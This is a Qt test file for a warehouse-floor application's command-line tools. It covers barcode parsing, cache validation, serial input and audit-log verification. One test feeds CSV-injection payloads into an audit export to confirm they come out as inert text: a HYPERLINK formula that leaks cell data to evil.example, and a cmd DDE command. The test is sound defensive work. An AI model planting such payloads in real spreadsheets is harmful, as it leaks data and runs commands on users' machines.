#include <QDir>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QSqlQuery>
#include <QTemporaryDir>
#include <QTest>

#include "db/AuditLog.h"
#include "db/LocalCache.h"
#include "support/PtyPair.h"
#include "support/TestCache.h"

/// floorctl and warehouse-floor as a user runs them: real processes, real files.
class TestCommandLine : public QObject
{
    Q_OBJECT

private slots:
    void versions();
    void helpForEveryCommand_data();
    void helpForEveryCommand();
    void unknownCommandIsAnError();
    void demoDataRefusesAbsurdValues_data();
    void demoDataRefusesAbsurdValues();
    void demoDataRefusesAnExistingFile();
    void demoDataPrintsOneJsonLine();
    void stationRefusesBadCaches_data();
    void stationRefusesBadCaches();
    void stationStartsOnAGoodCache();
    void parseScanPrintsElements();
    void parseScanNamesTheAiOfAnError();
    void decodeSurvivesADecoderAbort();
    void listenPrintsSerialScans();
    void auditVerifyNamesTheFirstBadRow();
    void auditExportKeepsFormulasAsText();
    void helpAndVersionNeedNoDisplay();
    void verdictFrameBenchTimesPickAndPack();
    void codesListTheRegistryAsTheDocsDo();

private:
    struct Run
    {
        int exitCode = -1;
        QString out;
        QString err;
    };
    static Run run(const QString& program, const QStringList& arguments);
    QTemporaryDir m_dir;
};

TestCommandLine::Run TestCommandLine::run(const QString& program, const QStringList& arguments)
{
    QProcess process;
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    env.insert(QStringLiteral("QT_QPA_PLATFORM"), QStringLiteral("offscreen"));
    process.setProcessEnvironment(env);
    process.start(program, arguments);
    if (!process.waitForFinished(120000))
        return {};
    return {process.exitStatus() == QProcess::NormalExit ? process.exitCode() : -1,
            QString::fromUtf8(process.readAllStandardOutput()),
            QString::fromUtf8(process.readAllStandardError())};
}

void TestCommandLine::versions()
{
    const Run floorctl = run(QStringLiteral(FLOORCTL), {QStringLiteral("--version")});
    QCOMPARE(floorctl.exitCode, 0);
    QCOMPARE(floorctl.out.trimmed(), QStringLiteral("floorctl " WF_VERSION));
    const Run app = run(QStringLiteral(WAREHOUSE_FLOOR), {QStringLiteral("--version")});
    QCOMPARE(app.exitCode, 0);
    QCOMPARE(app.out.trimmed(), QStringLiteral("warehouse-floor " WF_VERSION));
}

void TestCommandLine::helpForEveryCommand_data()
{
    QTest::addColumn<QStringList>("arguments");
    QTest::addColumn<QString>("mentions");
    QTest::addRow("floorctl") << QStringList{QStringLiteral("--help")} << QStringLiteral("demo-data");
    QTest::addRow("demo-data") << QStringList{QStringLiteral("demo-data"), QStringLiteral("--help")}
                               << QStringLiteral("--skus");
    QTest::addRow("bench") << QStringList{QStringLiteral("bench"), QStringLiteral("--help")}
                           << QStringLiteral("--lookups");
    QTest::addRow("parse-scan") << QStringList{QStringLiteral("parse-scan"), QStringLiteral("--help")}
                                << QStringLiteral("Digital Link");
    QTest::addRow("decode") << QStringList{QStringLiteral("decode"), QStringLiteral("--help")}
                            << QStringLiteral("--try-harder");
    QTest::addRow("listen") << QStringList{QStringLiteral("listen"), QStringLiteral("--help")}
                            << QStringLiteral("--serial");
}

void TestCommandLine::helpForEveryCommand()
{
    QFETCH(QStringList, arguments);
    QFETCH(QString, mentions);
    const Run help = run(QStringLiteral(FLOORCTL), arguments);
    QCOMPARE(help.exitCode, 0);
    QVERIFY2(help.out.contains(mentions), qPrintable(help.out));
}

void TestCommandLine::unknownCommandIsAnError()
{
    const Run r = run(QStringLiteral(FLOORCTL), {QStringLiteral("fly")});
    QCOMPARE(r.exitCode, 2);
    QVERIFY(r.err.contains(QStringLiteral("unknown command")));
}

void TestCommandLine::demoDataRefusesAbsurdValues_data()
{
    QTest::addColumn<QStringList>("options");
    QTest::addRow("zero skus") << QStringList{QStringLiteral("--skus"), QStringLiteral("0")};
    QTest::addRow("negative skus") << QStringList{QStringLiteral("--skus"), QStringLiteral("-5")};
    QTest::addRow("huge skus") << QStringList{QStringLiteral("--skus"), QStringLiteral("99999999999999")};
    QTest::addRow("overflowing skus") << QStringList{QStringLiteral("--skus"),
                                                     QStringLiteral("99999999999999999999999")};
    QTest::addRow("words for skus") << QStringList{QStringLiteral("--skus"), QStringLiteral("lots")};
    QTest::addRow("exponent for skus") << QStringList{QStringLiteral("--skus"), QStringLiteral("1e6")};
    QTest::addRow("zero orders") << QStringList{QStringLiteral("--orders"), QStringLiteral("0")};
    QTest::addRow("ten million orders") << QStringList{QStringLiteral("--orders"), QStringLiteral("10000000")};
    QTest::addRow("negative seed") << QStringList{QStringLiteral("--seed"), QStringLiteral("-1")};
    QTest::addRow("bad anchor") << QStringList{QStringLiteral("--anchor"), QStringLiteral("yesterday")};
}

void TestCommandLine::demoDataRefusesAbsurdValues()
{
    QFETCH(QStringList, options);
    const QString file = m_dir.filePath(QStringLiteral("absurd.sqlite"));
    const Run r =
        run(QStringLiteral(FLOORCTL), QStringList{QStringLiteral("demo-data"), QStringLiteral("--db"), file} + options);
    QCOMPARE(r.exitCode, 2);
    QVERIFY(r.err.startsWith(QStringLiteral("demo-data: ")));
    QVERIFY(!QFileInfo::exists(file));
}

void TestCommandLine::demoDataRefusesAnExistingFile()
{
    const QString file = m_dir.filePath(QStringLiteral("existing.sqlite"));
    QFile f(file);
    QVERIFY(f.open(QIODevice::WriteOnly));
    f.write("keep me");
    f.close();
    const Run r = run(QStringLiteral(FLOORCTL), {QStringLiteral("demo-data"), QStringLiteral("--db"), file});
    QCOMPARE(r.exitCode, 2);
    QVERIFY(r.err.contains(QStringLiteral("already exists")));
    QVERIFY(f.open(QIODevice::ReadOnly));
    QCOMPARE(f.readAll(), QByteArray("keep me"));
}

void TestCommandLine::demoDataPrintsOneJsonLine()
{
    const QString file = m_dir.filePath(QStringLiteral("small.sqlite"));
    const Run r = run(QStringLiteral(FLOORCTL),
                      {QStringLiteral("demo-data"),
                       QStringLiteral("--db"),
                       file,
                       QStringLiteral("--skus"),
                       QStringLiteral("500"),
                       QStringLiteral("--orders"),
                       QStringLiteral("50")});
    QCOMPARE(r.exitCode, 0);
    QCOMPARE(r.out.count(QLatin1Char('\n')), 1);
    const QJsonObject line = QJsonDocument::fromJson(r.out.toUtf8()).object();
    QCOMPARE(line.value(QStringLiteral("products")).toInteger(), 500);
    QCOMPARE(line.value(QStringLiteral("orders")).toInteger(), 50);
    QVERIFY(QFileInfo(file).size() > 0);
}

void TestCommandLine::stationRefusesBadCaches_data()
{
    QTest::addColumn<QString>("kind");
    QTest::addColumn<QString>("message");
    QTest::addRow("missing") << "missing"
                             << "does not exist";
    QTest::addRow("a folder") << "folder"
                              << "cannot be read";
    QTest::addRow("read-only") << "read-only"
                               << "read-only";
    QTest::addRow("garbage") << "garbage"
                             << "damaged";
    QTest::addRow("newer") << "newer"
                           << "newer version";
}

void TestCommandLine::stationRefusesBadCaches()
{
    QFETCH(QString, kind);
    QFETCH(QString, message);
    const QString file = m_dir.filePath(kind + QStringLiteral(".sqlite"));
    if (kind == QLatin1String("folder")) {
        QVERIFY(QDir().mkpath(file));
    } else if (kind == QLatin1String("garbage")) {
        QFile f(file);
        QVERIFY(f.open(QIODevice::WriteOnly));
        f.write(QByteArray(5000, '#'));
    } else if (kind != QLatin1String("missing")) {
        {
            auto cache = wf::db::LocalCache::open(file, wf::db::LocalCache::Missing::Create);
            QVERIFY(cache);
            QSqlQuery q((*cache)->database());
            if (kind == QLatin1String("newer"))
                QVERIFY(q.exec(QStringLiteral("INSERT INTO schema_version VALUES (1000, 'future', 0)")));
            QVERIFY(q.exec(QStringLiteral("PRAGMA wal_checkpoint(TRUNCATE)")));
        }
        if (kind == QLatin1String("read-only"))
            QVERIFY(QFile::setPermissions(file, QFileDevice::ReadOwner));
    }
    const QByteArray before = wf::test::fileHash(file);
    const Run r =
        run(QStringLiteral(WAREHOUSE_FLOOR), {QStringLiteral("--db"), file, QStringLiteral("--exit-when-ready")});
    QCOMPARE(r.exitCode, 1);
    QVERIFY2(r.err.contains(message), qPrintable(r.err));
    QVERIFY(!r.out.contains(QStringLiteral("ready")));
    if (kind == QLatin1String("missing"))
        QVERIFY(!QFileInfo::exists(file));
    else if (kind == QLatin1String("garbage"))
        QVERIFY(!QFileInfo::exists(file)); // moved aside, named in the message
    else if (kind != QLatin1String("folder"))
        QCOMPARE(wf::test::fileHash(file), before);
    QFile::setPermissions(file, QFileDevice::ReadOwner | QFileDevice::WriteOwner);
}

void TestCommandLine::stationStartsOnAGoodCache()
{
    const QString file = m_dir.filePath(QStringLiteral("good.sqlite"));
    wf::test::makeDemoCache(file);
    const Run r = run(QStringLiteral(WAREHOUSE_FLOOR),
                      {QStringLiteral("--db"),
                       file,
                       QStringLiteral("--station"),
                       QStringLiteral("ST-CLI"),
                       QStringLiteral("--exit-when-ready")});
    QCOMPARE(r.exitCode, 0);
    const QJsonObject ready = QJsonDocument::fromJson(r.out.toUtf8()).object();
    QCOMPARE(ready.value(QStringLiteral("ready")).toBool(), true);
    QVERIFY(ready.value(QStringLiteral("peak_rss_kb")).toInteger() > 0);
}

void TestCommandLine::parseScanPrintsElements()
{
    const Run r = run(QStringLiteral(FLOORCTL),
                      {QStringLiteral("parse-scan"),
                       QStringLiteral("--json"),
                       QStringLiteral("]C10109506000134352\\x1D10LOT-7\\x1D21SN1")});
    QCOMPARE(r.exitCode, 0);
    const QJsonObject line = QJsonDocument::fromJson(r.out.toUtf8()).object();
    QCOMPARE(line.value(QStringLiteral("ok")).toBool(), true);
    QCOMPARE(line.value(QStringLiteral("symbology")).toString(), QStringLiteral("]C1"));
    QCOMPARE(line.value(QStringLiteral("gs1")).toBool(), true);
    QCOMPARE(line.value(QStringLiteral("hri")).toString(), QStringLiteral("(01)09506000134352(10)LOT-7(21)SN1"));
    const QJsonObject first = line.value(QStringLiteral("elements")).toArray().first().toObject();
    QCOMPARE(first.value(QStringLiteral("ai")).toString(), QStringLiteral("01"));
    QCOMPARE(first.value(QStringLiteral("title")).toString(), QStringLiteral("GTIN"));
}

void TestCommandLine::parseScanNamesTheAiOfAnError()
{
    const Run r =
        run(QStringLiteral(FLOORCTL),
            {QStringLiteral("parse-scan"), QStringLiteral("--json"), QStringLiteral("(01)09506000134352(17)261331")});
    QCOMPARE(r.exitCode, 1);
    const QJsonObject line = QJsonDocument::fromJson(r.out.toUtf8()).object();
    QCOMPARE(line.value(QStringLiteral("ok")).toBool(), false);
    QCOMPARE(line.value(QStringLiteral("error")).toString(), QStringLiteral("AI (17): month 13 is not a month"));
}

void TestCommandLine::decodeSurvivesADecoderAbort()
{
    const QString folder = QStringLiteral(WF_SHARED_DATA_DIR "/barcodes/code128-1");
    if (!QFileInfo::exists(folder))
        QSKIP("../shared/data/barcodes is absent in this checkout");
    // ReadBarcodes() of Debian's ZXing 1.4 aborts on 4.png; the worker dies, floorctl goes on.
    const Run r = run(QStringLiteral(FLOORCTL),
                      {QStringLiteral("decode"),
                       QStringLiteral("--all"),
                       folder + QStringLiteral("/4.png"),
                       folder + QStringLiteral("/2.png")});
    QCOMPARE(r.exitCode, 1);
    const QStringList lines = r.out.trimmed().split(QLatin1Char('\n'));
    QCOMPARE(lines.size(), 2);
    QCOMPARE(QJsonDocument::fromJson(lines[0].toUtf8()).object().value(QStringLiteral("error")).toString(),
             QStringLiteral("the decoder crashed on this image"));
    const QJsonObject second = QJsonDocument::fromJson(lines[1].toUtf8()).object();
    QCOMPARE(
        second.value(QStringLiteral("results")).toArray().first().toObject().value(QStringLiteral("text")).toString(),
        QStringLiteral("Code 128"));
    // One symbol per image (the default) reads 4.png fine.
    const Run single = run(QStringLiteral(FLOORCTL), {QStringLiteral("decode"), folder + QStringLiteral("/4.png")});
    QCOMPARE(single.exitCode, 0);
    QVERIFY(single.out.contains(QStringLiteral("\"text\":\"123456\"")));
}

void TestCommandLine::listenPrintsSerialScans()
{
    if (!wf::test::PtyPair::available())
        QSKIP("socat is not installed (./dev test installs it)");
    wf::test::PtyPair pty;
    QVERIFY(pty.plugIn());
    QProcess listen;
    listen.start(QStringLiteral(FLOORCTL),
                 {QStringLiteral("listen"),
                  QStringLiteral("--serial"),
                  pty.deviceEnd(),
                  QStringLiteral("--count"),
                  QStringLiteral("2"),
                  QStringLiteral("--timeout"),
                  QStringLiteral("20")});
    QVERIFY(listen.waitForStarted());
    QTRY_VERIFY_WITH_TIMEOUT((listen.waitForReadyRead(100), listen.canReadLine()), 10000); // "connected"
    QVERIFY(pty.write(QByteArray("\x01\x02\r\n]C10109506000134352\r\nSKU-1\r\n")));
    QVERIFY(listen.waitForFinished(20000));
    QCOMPARE(listen.exitCode(), 0);
    QStringList events;
    for (const QByteArray& line : listen.readAll().split('\n'))
        if (!line.isEmpty())
            events << QJsonDocument::fromJson(line).object().value(QStringLiteral("event")).toString();
    // connected, the control bytes, two scans, stopped
    QCOMPARE(events,
             QStringList({QStringLiteral("status"),
                          QStringLiteral("rejected"),
                          QStringLiteral("scan"),
                          QStringLiteral("scan"),
                          QStringLiteral("status")}));
}

void TestCommandLine::auditVerifyNamesTheFirstBadRow()
{
    const QString file = m_dir.filePath(QStringLiteral("audit.sqlite"));
    QCOMPARE(run(QStringLiteral(FLOORCTL),
                 {QStringLiteral("demo-data"),
                  QStringLiteral("--db"),
                  file,
                  QStringLiteral("--skus"),
                  QStringLiteral("300"),
                  QStringLiteral("--orders"),
                  QStringLiteral("60")})
                 .exitCode,
             0);
    const Run intact = run(QStringLiteral(FLOORCTL),
                           {QStringLiteral("audit"), QStringLiteral("verify"), QStringLiteral("--db"), file});
    QCOMPARE(intact.exitCode, 0);
    const QJsonObject ok = QJsonDocument::fromJson(intact.out.toUtf8()).object();
    QVERIFY(ok.value(QStringLiteral("intact")).toBool());
    const int rows = ok.value(QStringLiteral("rows")).toInt();
    QVERIFY(rows > 0);
    QCOMPARE(ok.value(QStringLiteral("head")).toString().size(), 64);
    const QString csv = m_dir.filePath(QStringLiteral("audit.csv"));
    QCOMPARE(run(QStringLiteral(FLOORCTL),
                 {QStringLiteral("audit"),
                  QStringLiteral("export"),
                  QStringLiteral("--db"),
                  file,
                  QStringLiteral("--out"),
                  csv})
                 .exitCode,
             0);
    QFile exported(csv);
    QVERIFY(exported.open(QIODevice::ReadOnly | QIODevice::Text));
    QCOMPARE(exported.readAll().count('\n'), rows + 1); // the header and every row
    qint64 victim = 0;
    {
        auto cache = wf::db::LocalCache::open(file, wf::db::LocalCache::Missing::Refuse);
        QVERIFY(cache);
        QSqlQuery q((*cache)->database());
        QVERIFY(q.exec(QStringLiteral("SELECT max(id) - 1 FROM audit")) && q.next());
        victim = q.value(0).toLongLong();
        QVERIFY(q.exec(QStringLiteral("DROP TRIGGER audit_no_update")));
        QVERIFY(q.exec(QStringLiteral("UPDATE audit SET subject = 'someone else' WHERE id = %1").arg(victim)));
    }
    const Run tampered = run(QStringLiteral(FLOORCTL),
                             {QStringLiteral("audit"), QStringLiteral("verify"), QStringLiteral("--db"), file});
    QCOMPARE(tampered.exitCode, 1);
    QCOMPARE(QJsonDocument::fromJson(tampered.out.toUtf8()).object().value(QStringLiteral("first_bad_row")).toInteger(),
             victim);
    QVERIFY(tampered.err.contains(QStringLiteral("row %1").arg(victim)));
}

void TestCommandLine::auditExportKeepsFormulasAsText()
{
    // Reasons are typed (or scanned) by people: whatever they hold must reach a spreadsheet as text.
    const QString file = m_dir.filePath(QStringLiteral("formula.sqlite"));
    const QStringList hostile = {QStringLiteral("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"label torn\")"),
                                 QStringLiteral("+1+cmd|' /C calc'!A0"),
                                 QStringLiteral("-2+3"),
                                 QStringLiteral("@SUM(1,1)"),
                                 QStringLiteral("\t=1"),
                                 QStringLiteral("\r=1"),
                                 QStringLiteral("plain, with a comma")};
    {
        auto cache = wf::db::LocalCache::open(file, wf::db::LocalCache::Missing::Create);
        QVERIFY(cache);
        wf::db::AuditLog audit((*cache)->database());
        for (const QString& reason : hostile)
            QVERIFY(audit.append(QStringLiteral("S9001"),
                                 QStringLiteral("ST-1"),
                                 QStringLiteral("label_reprint"),
                                 QStringLiteral("SH-1"),
                                 reason));
    }
    const QString csv = m_dir.filePath(QStringLiteral("formula.csv"));
    QCOMPARE(run(QStringLiteral(FLOORCTL),
                 {QStringLiteral("audit"),
                  QStringLiteral("export"),
                  QStringLiteral("--db"),
                  file,
                  QStringLiteral("--out"),
                  csv})
                 .exitCode,
             0);
    QFile exported(csv);
    QVERIFY(exported.open(QIODevice::ReadOnly));
    const QString text = QString::fromUtf8(exported.readAll());
    QVERIFY(text.contains(QStringLiteral(",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"label torn\"\")\",")));
    QVERIFY(text.contains(QStringLiteral(",\"'+1+cmd|' /C calc'!A0\",")));
    QVERIFY(text.contains(QStringLiteral(",\"'-2+3\",")));
    QVERIFY(text.contains(QStringLiteral(",\"'@SUM(1,1)\",")));
    QVERIFY(text.contains(QStringLiteral(",\"'\t=1\",")));
    QVERIFY(text.contains(QStringLiteral(",\"'\r=1\",")));
    QVERIFY(text.contains(QStringLiteral(",\"plain, with a comma\",")));
    // No cell of a data row begins with a formula character.
    for (const QString& cell : text.split(QLatin1Char(',')))
        QVERIFY2(cell.isEmpty() || !QStringLiteral("=+@").contains(cell.front()), qPrintable(cell));
}

void TestCommandLine::verdictFrameBenchTimesPickAndPack()
{
    // A short run on a small cache: both halves are timed, every verdict was painted, the figures
    // are measured (not zero) and the ratio is beside them. The budget itself is for the 1M cache.
    const QString file = m_dir.filePath(QStringLiteral("frame.sqlite"));
    QCOMPARE(run(QStringLiteral(FLOORCTL), {QStringLiteral("demo-data"), QStringLiteral("--db"), file}).exitCode, 0);
    const Run r = run(QStringLiteral(FLOORCTL),
                      {QStringLiteral("bench"),
                       QStringLiteral("verdict-frame"),
                       QStringLiteral("--db"),
                       file,
                       QStringLiteral("--lookups"),
                       QStringLiteral("200")});
    QVERIFY2(r.exitCode == 0, qPrintable(r.err));
    const QJsonObject figures = QJsonDocument::fromJson(r.out.toUtf8()).object();
    QCOMPARE(figures.value(QStringLiteral("not_painted")).toInt(), 0);
    QVERIFY(figures.value(QStringLiteral("scans")).toInt() >= 200);
    for (const char* half : {"pick", "pack"}) {
        const QJsonObject part = figures.value(QLatin1String(half)).toObject();
        QVERIFY2(part.value(QStringLiteral("p50_us")).toDouble() > 0, half);
        QVERIFY2(part.value(QStringLiteral("p99_us")).toDouble() >= part.value(QStringLiteral("p50_us")).toDouble(),
                 half);
        QVERIFY2(part.value(QStringLiteral("ratio")).toDouble() > 0, half);
    }
}

void TestCommandLine::codesListTheRegistryAsTheDocsDo()
{
    const Run json = run(QStringLiteral(FLOORCTL), {QStringLiteral("codes"), QStringLiteral("--json")});
    QCOMPARE(json.exitCode, 0);
    const QStringList lines = json.out.split(QLatin1Char('\n'), Qt::SkipEmptyParts);
    QVERIFY(lines.size() > 100);
    for (const QString& line : lines) {
        const QJsonObject code = QJsonDocument::fromJson(line.toUtf8()).object();
        QVERIFY2(!code.value(QStringLiteral("code")).toString().isEmpty(), qPrintable(line));
        QVERIFY2(QStringList(
                     {QStringLiteral("ok"), QStringLiteral("warn"), QStringLiteral("error"), QStringLiteral("prompt")})
                     .contains(code.value(QStringLiteral("kind")).toString()),
                 qPrintable(line));
    }
    // docs/replay.md carries the same table, word for word.
    const Run markdown = run(QStringLiteral(FLOORCTL), {QStringLiteral("codes"), QStringLiteral("--markdown")});
    QCOMPARE(markdown.exitCode, 0);
    QFile docs(QStringLiteral(WF_SOURCE_DIR "/docs/replay.md"));
    QVERIFY(docs.open(QIODevice::ReadOnly));
    QVERIFY2(QString::fromUtf8(docs.readAll()).contains(markdown.out),
             "docs/replay.md's code table differs from floorctl codes --markdown: paste the new table there");
    QCOMPARE(
        run(QStringLiteral(FLOORCTL), {QStringLiteral("codes"), QStringLiteral("--json"), QStringLiteral("--markdown")})
            .exitCode,
        2);
}

void TestCommandLine::helpAndVersionNeedNoDisplay()
{
    // Over SSH after installing the .deb: no X server, no platform chosen. Before, both aborted
    // with "could not connect to display".
    for (const char* option : {"--version", "--help"}) {
        QProcess process;
        QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
        for (const char* name : {"DISPLAY", "WAYLAND_DISPLAY", "QT_QPA_PLATFORM"})
            env.remove(QString::fromLatin1(name));
        process.setProcessEnvironment(env);
        process.start(QStringLiteral(WAREHOUSE_FLOOR), {QString::fromLatin1(option)});
        QVERIFY(process.waitForFinished(30000));
        QCOMPARE(process.exitStatus(), QProcess::NormalExit);
        QCOMPARE(process.exitCode(), 0);
        const QByteArray out = process.readAllStandardOutput();
        QVERIFY2(out.contains(qstrcmp(option, "--version") == 0 ? QByteArray("warehouse-floor " WF_VERSION)
                                                                : QByteArray("--master <URL>")),
                 out.constData());
    }
}

QTEST_GUILESS_MAIN(TestCommandLine)
#include "TestCommandLine.moc"
